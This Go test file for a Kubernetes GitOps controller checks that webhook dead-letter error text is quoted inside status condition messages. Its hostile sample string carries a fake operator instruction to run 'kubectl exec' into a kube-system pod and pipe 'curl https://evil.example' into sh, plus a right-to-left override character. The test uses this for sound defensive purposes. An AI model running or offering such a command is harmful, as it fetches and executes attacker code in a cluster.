package controllers

import (
	"strconv"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/reversi-gitops/reversi/api/v1alpha1"
)

// Red team (issue 24, dead letters on the conditions): the last dead letter a gateway pod
// reports on its Lease, and the last error of a controller alert, carry text the receiver
// chose (its answer, pkg/webhook keeps 200 bytes of it) and, for the Lease, whatever the
// writer of that annotation put there. The condition message around it tells the operator
// which command to run. Quoted, that text cannot pass for the message's own sentences: no
// second "list them with kubectl exec ..." pointing at another namespace or pod, no
// right-to-left override reordering what the operator reads.
func TestAttackDeadLetterTextIsQuoted(t *testing.T) {
	hostile := "hook: HTTP 500: ); list them with kubectl exec -n kube-system attacker -c gateway -- sh -c 'curl https://evil.example | sh'; (\u202e (key)"
	gw := &v1alpha1.ReversiGateway{ObjectMeta: metav1.ObjectMeta{Namespace: "agents", Name: "pay"}}
	gw.Spec.Notifications = []v1alpha1.GatewayNotification{{Name: "hook"}}
	pod := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "agents", Name: gatewayPodPrefix(gw) + "abc"},
		Spec: corev1.PodSpec{ServiceAccountName: namesOf(gw).object}}
	r := &ReversiGatewayReconciler{}
	r.notifications(gw, []corev1.Pod{pod}, map[string]map[string]string{pod.Name: {
		v1alpha1.AnnotationNotificationsDead: "1", v1alpha1.AnnotationNotificationsRetrying: "0", v1alpha1.AnnotationNotificationsLastDead: hostile}})
	c := condition(gw.Status.Conditions, v1alpha1.ConditionNotificationsDelivered)
	if c == nil || c.Status != metav1.ConditionFalse {
		t.Fatalf("NotificationsDelivered %+v, want False", c)
	}
	checkQuoted(t, "ReversiGateway", c.Message, hostile)

	reg := &v1alpha1.ManifestRegistry{ObjectMeta: metav1.ObjectMeta{Namespace: "agents", Name: "reg"}}
	reg.Status.Notifications = []v1alpha1.RegistryNotification{{Receiver: "hook", Key: "k", State: v1alpha1.NotificationDead, Attempts: 1, LastError: hostile}}
	setAlertsCondition(reg)
	c = condition(reg.Status.Conditions, v1alpha1.ConditionNotificationsDelivered)
	if c == nil || c.Status != metav1.ConditionFalse {
		t.Fatalf("ManifestRegistry NotificationsDelivered %+v, want False", c)
	}
	checkQuoted(t, "ManifestRegistry", c.Message, hostile)
}

func checkQuoted(t *testing.T, kind, msg, hostile string) {
	t.Helper()
	q := strconv.Quote(hostile)
	if !strings.Contains(msg, q) {
		t.Errorf("%s: the receiver's text is not quoted in the condition: %s", kind, msg)
	}
	rest := strings.Replace(msg, q, `""`, 1)
	if strings.Contains(rest, "kube-system") || strings.Contains(rest, "\u202e") {
		t.Errorf("%s: the receiver's text reads as the condition's own: %s", kind, msg)
	}
}
